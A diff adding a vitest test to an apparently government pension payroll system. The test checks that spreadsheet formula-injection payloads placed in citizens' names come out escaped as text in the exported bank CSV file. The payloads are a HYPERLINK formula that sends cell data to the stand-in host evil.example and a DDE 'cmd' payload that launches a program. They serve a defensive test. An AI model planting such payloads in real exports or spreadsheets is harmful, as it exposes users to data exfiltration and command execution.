@@ -1,4 +1,5 @@
 import { readFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { FUND, SOURCES, personAccountId } from '../ledger/index.js';
 import { parseScenario, simulate } from '../policy/index.js';
@@ -197,6 +198,23 @@ describe('the monthly payroll', () => {
     expect(lines[0]).toBe('paymentId,citizenNumber,name,bankAccount,amountFen,amountYuan,months\r\n');
     const yuan = `${Math.floor(line.totalFen / 100)}.${String(line.totalFen % 100).padStart(2, '0')}`;
     expect(lines[1]).toBe(`${line.paymentId},${WORKED},张三丰,6222000000000001,${line.totalFen},${yuan},2020-06\r\n`);
+  });
+
+  it('writes a name a spreadsheet would run as a formula as text in the bank file (issue 10 section 5)', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const command = "+cmd|' /C calc'!A0";
+    const a = citizenNumberFor('1944-02-02', 50);
+    const b = citizenNumberFor('1944-02-02', 51);
+    stack.setToday('2020-06-15');
+    stack.registry.persons.registerPerson(personInput(a, '1944-02-02', { name: hyperlink }));
+    stack.registry.persons.registerPerson(personInput(b, '1944-02-02', { name: command }));
+    stack.runs.payroll('2020-06');
+    const rows = parse([...stack.runs.bankFile('2020-06')].join(''), { columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(3);
+    const names = Object.fromEntries(rows.map((r) => [r.citizenNumber, r.name]));
+    expect(names[a]).toBe(`'${hyperlink}`);
+    expect(names[b]).toBe(`'${command}`);
+    for (const cell of rows.flatMap((r) => Object.values(r))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('suspends months without proof of life and pays them back after a certification (POLICY: certBackPay)', () => {
